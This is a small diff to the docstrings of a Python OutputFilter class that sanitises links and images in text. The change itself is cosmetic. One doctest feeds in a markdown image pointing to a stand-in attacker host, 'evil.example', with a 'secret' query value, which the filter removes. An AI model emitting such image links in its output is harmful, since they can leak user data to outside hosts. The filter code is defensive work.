@@ -108,7 +108,7 @@ class OutputFilter:
     Raises:
         UsageError: An entry is not a host.
 
-    Example:
+    Examples:
         >>> OutputFilter(links=["*.example.com"]).clean("[a](https://docs.example.com/)").text
         '[a](https://docs.example.com/)'
     """
@@ -127,7 +127,7 @@ class OutputFilter:
         Raises:
             UsageError: `text` is not a str.
 
-        Example:
+        Examples:
             >>> dict(OutputFilter().clean("See ![x](https://evil.example/?q=secret)").removed)
             {'image': 1}
         """
